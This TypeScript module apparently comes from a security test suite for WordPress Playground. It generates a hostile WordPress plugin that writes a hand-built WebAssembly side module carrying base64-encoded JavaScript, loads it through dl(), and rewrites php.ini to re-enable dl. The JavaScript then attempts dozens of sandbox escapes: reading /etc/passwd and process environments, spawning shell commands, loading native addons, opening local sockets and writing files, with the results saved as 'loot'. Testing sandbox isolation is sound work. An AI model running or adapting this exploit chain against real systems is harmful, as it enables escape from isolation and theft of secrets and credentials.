/** Where JavaScript would find something, if it ran in the process of PHP. */
export interface Loot {
  /** A process that shows when it is signalled or debugged. */
  readonly pid: number;
  readonly tcpPort: number;
  readonly unixSocket: string;
  /** Files that hold something: outputs, the environment, the package, the workspace. */
  readonly files: readonly string[];
  /** A library of machine code that Node.js can load. */
  readonly addon: string;
}

/** The page on which the plugin attacks, and the one that tells what it got. */
export const ATTACK_PAGE = '/?acme_attack=1';
export const LOOT_PAGE = '/?acme_loot=1';
/** Lets PHP crash, so that Playground starts it anew, with settings that load the module. */
export const CRASH_PAGE = '/?acme_crash=1';

/** Where JavaScript leaves what it got, on the plugin's own site. */
const LOOT_FILE = '/tmp/acme-loot.json';

/**
 * Attempts of JavaScript in the process of PHP: each is a function body that returns, or promises, what it got. `load`
 * gets a module of Node.js by any way that is left.
 */
function listAttempts({ pid, tcpPort, unixSocket, files, addon }: Loot): Readonly<Record<string, string>> {
  const rawHandle = (made: string, connect: string) => `
    const hooks = load('async_hooks');
    let Wrap;
    hooks.createHook({ init(id, type, trigger, resource) { if (/REQ|WRAP/.test(type)) Wrap ??= resource.constructor; } }).enable();
    load('dns').promises.lookup('localhost').catch(() => 0);
    const handle = ${made};
    const request = new Wrap();
    return new Promise((done) => {
      request.oncomplete = (status) => done(status === 0 ? 'connects' : null);
      if (${connect} !== 0) done(null);
    });`;
  return {
    eval: `return eval('1 + 1');`,
    'new Function': `return new Function('return 2')();`,
    'a function of its constructor': `return (() => 0).constructor('return 2')();`,
    'Module._compile': `const { Module } = load('module'); const made = new Module('acme'); made._compile('module.exports = 2', '/acme.js'); return made.exports;`,
    'data: import': `return import('data:text/javascript,export default 2').then((made) => made.default);`,
    'vm.runInThisContext': `return load('vm').runInThisContext('1 + 1');`,
    'vm.Script': `return new (load('vm').Script)('1 + 1').runInThisContext();`,
    'vm.SourceTextModule': `return typeof load('vm').compileFunction('return 1');`,
    'flags of V8': `load('v8').setFlagsFromString('--no-disallow-code-generation-from-strings'); return 'set';`,
    'process.kill': `return process.kill(${pid}, 'SIGUSR2') && 'signals';`,
    'process._kill': `return process._kill(${pid}, 12) === 0 ? 'signals' : null;`,
    'process._debugProcess': `process._debugProcess(${pid}); return 'debugs';`,
    'process.getBuiltinModule': `return process.getBuiltinModule('child_process').spawnSync('id').stdout?.toString() || null;`,
    'a named import': `return import('fs').then(({ readFileSync }) => readFileSync('/etc/passwd', 'utf8'));`,
    'import of a file': `return import('file://' + ${JSON.stringify(files[0] ?? '/')}).then(() => 'loaded');`,
    'import of JSON': `return import('file://' + ${JSON.stringify(files[1] ?? '/')}, { with: { type: 'json' } }).then((made) => JSON.stringify(made.default));`,
    'a loader of addons': `const made = { exports: {} }; require.extensions['.node'](made, ${JSON.stringify(addon)}); return Object.keys(made.exports).join();`,
    'a module that is loaded': `return Object.values(require.cache).map((one) => one.constructor._load('fs').readFileSync('/etc/passwd', 'utf8')).join();`,
    'process.ppid': `return process.ppid || null;`,
    'process.dlopen': `const made = { exports: {} }; process.dlopen(made, ${JSON.stringify(addon)}); return Object.keys(made.exports).join();`,
    'an addon by require': `return Object.keys(load(${JSON.stringify(addon)})).join();`,
    'process.binding': `return typeof process.binding('tcp_wrap').TCP === 'function' ? 'handles' : null;`,
    'process._linkedBinding': `return Object.keys(process._linkedBinding('tcp_wrap')).join();`,
    'process._getActiveHandles': `return process._getActiveHandles().map((one) => one.constructor.name).join() || null;`,
    'process.channel': `return Reflect.ownKeys(process).filter((key) => typeof process[key]?.readStart === 'function').map(String).join() || null;`,
    'process.send': `return process.send({ output: '', log: '' }) && 'sends';`,
    'process.stderr': `return process.stderr._handle ? 'pipe' : null;`,
    'a handle of a server': `return load('net')._createServerHandle('127.0.0.1', 0, 4).constructor.name;`,
    'a handle of a packet socket': `return load('dgram')._createSocketHandle('127.0.0.1', 0, 'udp4').constructor.name;`,
    'a raw connection': rawHandle(
      `new (load('net')._createServerHandle('127.0.0.1', 0, 4).constructor)(0)`,
      `handle.connect(request, '127.0.0.1', ${tcpPort})`,
    ),
    'a raw connection to a path': rawHandle(
      `new (process.stderr._handle.constructor)(0)`,
      `handle.connect(request, ${JSON.stringify(unixSocket)})`,
    ),
    'net.connect': `return new Promise((done) => load('net').connect(${tcpPort}, '127.0.0.1').on('connect', () => done('connects')).on('error', () => done(null)));`,
    'net.connect to a path': `return new Promise((done) => load('net').connect(${JSON.stringify(unixSocket)}).on('connect', () => done('connects')).on('error', () => done(null)));`,
    'http.get': `return new Promise((done) => load('http').get('http://127.0.0.1:${tcpPort}', () => done('answers')).on('error', () => done(null)));`,
    fetch: `return fetch('http://127.0.0.1:${tcpPort}').then(() => 'answers');`,
    WebSocket: `return new Promise((done) => { const made = new WebSocket('ws://127.0.0.1:${tcpPort}'); made.onerror = () => done(null); made.onopen = () => done('open'); });`,
    'a listening server': `return new Promise((done) => load('net').createServer().on('error', () => done(null)).listen(0, '127.0.0.1', function () { done(this._handle && 'listens'); }));`,
    'dns.lookup': `return new Promise((done) => load('dns').lookup('localhost', (error, address) => done(error ? null : address)));`,
    'dns.promises.lookup': `return load('dns').promises.lookup('localhost').then(({ address }) => address);`,
    'a resolver of names': `return typeof new (load('dns').Resolver)().getServers()[0] === 'string' ? 'servers' : null;`,
    'child_process.spawnSync': `return load('child_process').spawnSync('id').stdout?.toString() || null;`,
    Worker: `return new Promise((done) => new (load('worker_threads').Worker)('0', { eval: true }).on('online', () => done('runs')).on('error', () => done(null)));`,
    'inspector.open': `load('inspector').open(0); return load('inspector').url();`,
    'inspector.Session': `const session = new (load('inspector').Session)(); session.connect(); return 'connected';`,
    'priority of a process': `load('os').setPriority(${pid}, 5); return 'set';`,
    users: `return load('os').userInfo().username;`,
    environment: `return Object.entries(process.env).filter(([name]) => !/^(SystemRoot|windir|TEMP|TMP|__CF_USER_TEXT_ENCODING)$/i.test(name)).join() || null;`,
    'arguments of the process': `return process.execArgv.concat(process.argv).join(' ') || null;`,
    'files that are open': `const fs = load('fs'); const got = []; for (let fd = 3; fd < 64; fd += 1) try { if (fs.fstatSync(fd).isFile()) got.push(fd); } catch {} return got.join() || null;`,
    'environment of another process': `return load('fs').readFileSync('/proc/${pid}/environ', 'utf8');`,
    'environment of this process': `return load('fs').readFileSync('/proc/self/environ', 'utf8') || 'empty';`,
    'memory of another process': `return load('fs').openSync('/proc/${pid}/mem', 'r+');`,
    users_file: `return load('fs').readFileSync('/etc/passwd', 'utf8');`,
    'a folder': `return load('fs').readdirSync('/').join();`,
    'a report': `return process.report.writeReport('/tmp/acme-report.json');`,
    'a snapshot of the heap': `return load('v8').writeHeapSnapshot('/tmp/acme.heapsnapshot');`,
    'trace events': `load('trace_events').createTracing({ categories: ['node'] }).enable(); return 'writes';`,
    'a database': `new (load('node:sqlite').DatabaseSync)('/tmp/acme.db'); return 'opened';`,
    WASI: `new (load('wasi').WASI)({ version: 'preview1', preopens: { '/': '/' } }); return 'opened';`,
    'an engine of OpenSSL': `load('crypto').setEngine(${JSON.stringify(addon)}); return 'loaded';`,
    'a file in the folder of Playground': `load('fs').writeFileSync(load('path').join(process.cwd(), 'acme.txt'), 'got'); return 'written';`,
    'another folder': `process.chdir('/'); return 'changed';`,
    ...Object.fromEntries(
      files.flatMap((file) => {
        const path = JSON.stringify(file);
        return [
          [`read ${file}`, `return load('fs').readFileSync(${path}, 'utf8') || 'empty';`],
          [`write ${file}`, `load('fs').appendFileSync(${path}, 'acme'); return 'written';`],
          [`link ${file}`, `load('fs').symlinkSync(${path}, ${path} + '.acme'); return 'linked';`],
        ];
      }),
    ),
    'another user': `process.setuid(65534); return 'changed';`,
  };
}

/** JavaScript that makes all attempts, and leaves what they got on the site: `null` for nothing. */
function attackScript(loot: Loot): string {
  const attempts = Object.entries(listAttempts(loot)).map(
    ([name, body]) => `[${JSON.stringify(name)}, () => {${body}}]`,
  );
  return `FS.writeFile('${LOOT_FILE}', 'pending'); (async () => {
    const ways = [
      (name) => require(name),
      (name) => process.getBuiltinModule(name),
      (name) => process.mainModule.require(name),
      (name) => require('node:module').createRequire('/acme.js')(name),
      (name) => require('node:module')._load(name),
    ];
    const modules = {};
    for (const name of ['module','vm','v8','async_hooks','dns','net','dgram','http','child_process','worker_threads','inspector','os','fs','path','trace_events','node:sqlite','wasi','crypto'])
      modules[name] = await import(name).then((made) => made.default, () => undefined);
    const load = (name) => {
      let last;
      for (const way of ways) try { const made = way(name); if (made) return made; } catch (error) { last = error; }
      if (modules[name]) return modules[name];
      throw last;
    };
    const got = { ran: 'JavaScript' };
    const errors = {};
    const late = () => new Promise((done) => setTimeout(done, 1500, null));
    for (const [name, attempt] of [${attempts.join(',\n')}]) {
      try {
        const value = await Promise.race([attempt(), late()]);
        got[name] = value === undefined || value === null || value === '' ? null : String(value).slice(0, 200);
      } catch (error) {
        got[name] = null;
        errors[name] = String(error && error.message).slice(0, 120);
      }
    }
    FS.writeFile('${LOOT_FILE}', JSON.stringify({ got, errors }));
  })();`;
}

/**
 * Code of a plugin that gets JavaScript run in the process of PHP, without any binary file: it writes a WebAssembly side module
 * where PHP looks for extensions, and loads it. Emscripten's loader evaluates the text of the module's JavaScript.
 */
export function hostileCode(loot: Loot): string {
  const script = Buffer.from(attackScript(loot)).toString('base64');
  return `
function acme_u( $n ) { $o = ''; do { $b = $n & 127; $n >>= 7; $o .= chr( $n ? $b | 128 : $b ); } while ( $n ); return $o; }
function acme_s( $text ) { return acme_u( strlen( $text ) ) . $text; }
function acme_section( $id, $bytes ) { return chr( $id ) . acme_u( strlen( $bytes ) ) . $bytes; }
/** A side module of some hundred bytes with a text of JavaScript. */
function acme_module( $script ) {
	$js = "(void)<::>0;$script;0\\0";
	return "\\0asm\\1\\0\\0\\0"
		. acme_section( 0, acme_s( 'dylink.0' ) . chr( 1 ) . acme_s( acme_u( strlen( $js ) + 64 ) . acme_u( 4 ) . acme_u( 0 ) . acme_u( 0 ) ) )
		. acme_section( 2, acme_u( 2 ) . acme_s( 'env' ) . acme_s( 'memory' ) . chr( 2 ) . chr( 0 ) . acme_u( 1 ) . acme_s( 'env' ) . acme_s( '__memory_base' ) . chr( 3 ) . chr( 0x7f ) . chr( 0 ) )
		. acme_section( 6, acme_u( 1 ) . chr( 0x7f ) . chr( 0 ) . chr( 0x41 ) . acme_u( 0 ) . chr( 0x0b ) )
		. acme_section( 7, acme_u( 1 ) . acme_s( '__em_js__x' ) . chr( 3 ) . acme_u( 1 ) )
		. acme_section( 11, acme_u( 1 ) . chr( 0 ) . chr( 0x23 ) . acme_u( 0 ) . chr( 0x0b ) . acme_u( strlen( $js ) ) . $js );
}
add_action( 'template_redirect', function () {
	error_reporting( 0 );
	if ( isset( $_GET['acme_loot'] ) ) {
		echo is_file( '${LOOT_FILE}' ) ? file_get_contents( '${LOOT_FILE}' ) : 'nothing';
		exit;
	}
	$folder = ini_get( 'extension_dir' );
	if ( isset( $_GET['acme_crash'] ) ) {
		$ini = preg_replace( '/^(enable_dl|disable_functions)\b.*$/m', '', file_get_contents( '/internal/shared/php.ini' ) );
		file_put_contents( '/internal/shared/php.ini', "$ini\nenable_dl=1\ndisable_functions=\n" );
		foreach ( glob( '/internal/shared/extensions/*.ini' ) as $file ) {
			file_put_contents( dirname( $file ) . '/acme.ini', "extension=$folder/acme.so\nenable_dl=1\n" );
		}
		function acme_fall() { return array_map( 'acme_fall', array( 1 ) ); }
		ini_set( 'zend.max_allowed_stack_size', '-1' );
		acme_fall();
		exit;
	}
	if ( ! isset( $_GET['acme_attack'] ) ) { return; }
	mkdir( $folder, 0777, true );
	file_put_contents( "$folder/acme.so", acme_module( base64_decode( '${script}' ) ) );
	echo function_exists( 'dl' ) ? 'dl exists. ' : 'dl is gone. ';
	try {
		echo dl( 'acme.so' ) ? 'loaded' : 'refused';
	} catch ( Throwable $error ) {
		echo get_class( $error );
	}
	exit;
} );`;
}
